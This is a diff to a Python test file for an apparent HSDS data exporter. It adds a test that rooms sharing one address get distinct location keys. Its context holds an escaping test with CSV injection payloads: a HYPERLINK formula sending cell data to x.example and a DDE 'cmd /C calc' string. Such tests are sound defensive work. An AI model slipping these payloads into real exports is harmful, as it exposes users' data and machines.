@@ -100,3 +100,16 @@ def test_partner_text_in_the_hsds_tables_never_becomes_a_formula():
     text = csv_text("service", [{"id": "x", "name": '=HYPERLINK("https://x.example/?"&A1;"Klik")', "description": "@SUM(1+1)*cmd|' /C calc'!A0"}])
     row = text.splitlines()[1]
     assert "'=HYPERLINK" in row and "'@SUM" in row
+
+
+def test_two_rooms_at_one_address_get_their_own_location_ids():
+    from types import SimpleNamespace
+
+    from generator.export.plekken import plekken
+    from generator.models import Adres
+
+    adres = Adres(straat="Brink 1", postcode="7771 AA", plaats="Akkerveen")
+    kamer = lambda naam: SimpleNamespace(adres=adres, naam=naam, kern=None, coordinaten=None, rolstoeltoegankelijk=None)  # noqa: E731
+    record = SimpleNamespace(naam="Proef", locaties=[kamer("Zaal 1"), kamer("Zaal 2"), kamer("Zaal 3")])
+    keys = [plek.sleutel for plek in plekken(record)]
+    assert len(set(keys)) == 3 and keys[0] == keys[1].split("#")[0]
